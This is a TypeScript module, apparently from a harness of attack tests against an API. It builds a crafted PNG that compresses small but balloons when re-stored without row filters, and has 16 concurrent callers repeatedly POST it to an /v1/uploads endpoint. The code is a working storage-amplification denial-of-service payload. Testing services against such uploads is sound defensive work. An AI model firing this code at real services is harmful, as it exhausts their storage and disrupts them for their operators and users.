/** Uploads that are stored with many times their length. */
import { randomBytes } from "node:crypto"
import { crc32, deflateSync } from "node:zlib"
import { type Attack, jsonHeaders, repeating } from "./Attack.ts"
import { smallImage } from "./smallImage.ts"

const callers = 16

/**
 * A row longer than the window of the compression, 32 KiB: the filter of PNG refers to the row above for nothing, while an
 * encoder without filters stores each row again.
 */
const width = 12_000
const height = 1_600

/** Sends, in turns, an image of equal rows of noise and a small image. */
export const attack: Attack = async ({ keys: [key = ""], origin }) => {
  const images = [growing(), Buffer.from(smallImage, "base64")] as const
  return repeating({
    origin,
    callers,
    requestOf: (n) => ({
      method: "POST",
      path: "/v1/uploads",
      headers: { ...jsonHeaders(key), "content-type": "image/png" },
      body: n % 2 === 0 ? images[0] : images[1]
    })
  })
}

// -----------------------------------------------------------------------------
// internal
// -----------------------------------------------------------------------------

/** A PNG whose first row is noise, and whose other rows are the same by the filter "up". */
const growing = (): Buffer => {
  const row = 1 + width * 3
  const pixels = Buffer.alloc(row * height)
  pixels.set(randomBytes(width * 3), 1)
  const up = 2
  for (let y = 1; y < height; y++) pixels[y * row] = up
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  // Eight bits per channel, RGB.
  header.set([8, 2], 8)
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", header),
    chunk("IDAT", deflateSync(pixels, { level: 1 })),
    chunk("IEND", Buffer.alloc(0))
  ])
}

const chunk = (type: string, data: Buffer): Buffer => {
  const typed = Buffer.concat([Buffer.from(type, "latin1"), data])
  const framed = Buffer.alloc(typed.length + 8)
  framed.writeUInt32BE(data.length, 0)
  framed.set(typed, 4)
  framed.writeUInt32BE(crc32(typed), typed.length + 4)
  return framed
}
